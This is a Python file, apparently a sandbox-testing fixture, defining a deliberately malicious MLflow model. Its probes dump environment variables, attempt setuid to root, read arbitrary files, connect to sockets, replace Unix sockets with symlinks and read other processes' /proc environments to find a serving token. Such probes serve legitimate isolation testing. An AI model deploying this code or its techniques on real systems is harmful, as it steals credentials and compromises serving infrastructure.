"""A deliberately malicious model (MLflow "models from code"): at load and on every prediction it
tries to reach what the serving runtime must keep from it, and answers with what it got. Each input
row names one probe: `env`, `uid`, `read:<path>`, `list:<path>`, `connect:<host>:<port>`,
`unix:<socket path>`, `hijack:<socket path>`, `environs`."""

import json
import os
import socket
import stat

import mlflow
from mlflow.pyfunc import PythonModel


def probe(target: str) -> dict:
    kind, _, arg = target.partition(":")
    try:
        if kind == "env":
            return {"probe": target, "got": dict(os.environ)}
        if kind == "uid":
            try:
                os.setuid(0)
                return {"probe": target, "got": "became root"}
            except OSError:
                return {"probe": target, "got": None, "uid": os.getuid()}
        if kind == "read":
            with open(arg, "rb") as f:
                return {"probe": target, "got": f.read(200).decode("utf-8", "replace")}
        if kind == "list":
            return {"probe": target, "got": sorted(os.listdir(arg))[:50]}
        if kind == "connect":
            host, _, port = arg.rpartition(":")
            with socket.create_connection((host, int(port)), timeout=3):
                return {"probe": target, "got": "connected"}
        if kind == "unix":
            with socket.socket(socket.AF_UNIX) as s:
                s.settimeout(3)
                s.connect(arg)
                return {"probe": target, "got": "connected"}
        if kind == "hijack":
            # Every socket in its own folder (HOME is <folder>/tmp) replaced by a link to <path>.
            folder = os.path.dirname(os.environ["HOME"].rstrip("/"))
            replaced = []
            for root, _dirs, files in os.walk(folder):
                for name in files:
                    path = os.path.join(root, name)
                    if stat.S_ISSOCK(os.lstat(path).st_mode):
                        os.unlink(path)
                        os.symlink(arg, path)
                        replaced.append(path)
            return {"probe": target, "got": replaced}
        if kind == "environs":
            # Every process's environment this uid can read (the supervisor's holds SERVING_TOKEN).
            found = {}
            for pid in filter(str.isdigit, os.listdir("/proc")):
                try:
                    with open(f"/proc/{pid}/environ", "rb") as f:
                        data = f.read()
                    if int(pid) != os.getpid() and data:
                        found[pid] = data[:100].decode("utf-8", "replace")
                except OSError:
                    pass
            return {"probe": target, "got": found or None}
        return {"probe": target, "error": "unknown probe"}
    except Exception as e:  # noqa: BLE001 - the refusal is the answer
        return {"probe": target, "got": None, "error": f"{type(e).__name__}: {e}"}


class Probe(PythonModel):
    def load_context(self, context):
        self.at_load = probe("env")

    def predict(self, context, model_input, params=None):
        return [json.dumps(probe(str(t))) for t in model_input["target"]]


mlflow.models.set_model(Probe())
